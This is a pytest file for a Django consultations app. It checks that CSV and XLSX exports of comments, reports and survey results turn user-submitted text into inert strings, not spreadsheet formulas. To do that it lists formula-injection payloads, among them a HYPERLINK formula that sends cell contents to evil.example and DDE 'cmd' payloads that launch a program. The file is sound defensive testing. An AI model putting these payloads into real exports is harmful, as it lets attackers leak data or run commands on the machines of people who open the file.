"""Formula injection in exports: what strangers wrote is never a formula in a spreadsheet program."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.utils import timezone

from apps.consultations.domain import reports
from apps.consultations.enums import AuthorKind
from apps.consultations.models import Consultation
from apps.publications.domain.report_files.csv_file import csv_bytes
from apps.publications.domain.report_files.material import Material
from apps.publications.domain.report_files.tables import xlsx_bytes
from tests.consultations.surveys.sample import GROUPS, poll
from tests.factories.consultations import CommentFactory, DispositionFactory
from tests.factories.reports import closed_consultation

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"Відкрити")', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''+1",
]  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def is_formula(value):
    """Whether a spreadsheet program would calculate it; a number of our own is none."""
    text = str(value)
    return text.startswith(STARTS) and not text.lstrip("-").replace(".", "", 1).isdigit()


def spoil(consultation, formula, number):
    return CommentFactory(
        consultation=consultation, number=number, body=formula, replacement=formula, quote=formula,
        author_name=formula, organisation=formula, author_kind=AuthorKind.ORGANISATION, place_title=formula,
        place_code=formula[:80],
        disposition=DispositionFactory(consultation=consultation, reason=formula),
    )  # fmt: skip


def cells_of(content):
    """All cells of a CSV file, but for its head."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_comments_as_a_table(talk, stranger, formula):
    spoil(talk.consultation, formula, 1)
    cells = cells_of(stranger.get(f"{talk.base}comments.csv").content)
    assert sum(formula in cell for cell in cells) >= 6
    assert [cell for cell in cells if is_formula(cell)] == []


@pytest.fixture
def material(db):
    consultation = closed_consultation(title="=1+1", outcome="=1+1")
    for number, formula in enumerate(FORMULAS, 1):
        spoil(consultation, formula, number)
    report = reports.make(consultation=consultation, by=None, at=timezone.now(), summary="=1+1")
    return Material.of(reports.publish(report=report, by=None, at=timezone.now()))


def test_the_report_as_a_table(material):
    cells = cells_of(csv_bytes(material))
    assert len(cells) > 10 * len(FORMULAS)
    assert [cell for cell in cells if is_formula(cell)] == []


def test_the_report_as_a_workbook(material):
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(material)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 10 * len(FORMULAS)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if isinstance(cell.value, str) and is_formula(cell.value)] == []


def test_results_of_a_questionnaire(db, stranger):
    made = poll()
    for number in range(10):
        made.answered(group=GROUPS[number % 2])
    made.survey.title = "=1+1"
    made.survey.save()
    for row in [*made.questions.values(), *made.options.values(), *made.rows.values()]:
        type(row).objects.filter(pk=row.pk).update(text='=HYPERLINK("https://evil.example")')
    Consultation.objects.filter(pk=made.survey.consultation_id).update(
        closes_at=timezone.now() - timedelta(hours=1)
    )
    talk = made.survey.consultation
    base = f"/{talk.community.slug}/consultations/{talk.slug}/survey/results"
    table = stranger.get(f"{base}.csv")
    assert table.status_code == 200
    cells = cells_of(table.content)
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if is_formula(cell)] == []
    book = openpyxl.load_workbook(io.BytesIO(stranger.get(f"{base}.xlsx").content))
    every = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in every)
    assert [cell.coordinate for cell in every if cell.data_type == "f"] == []
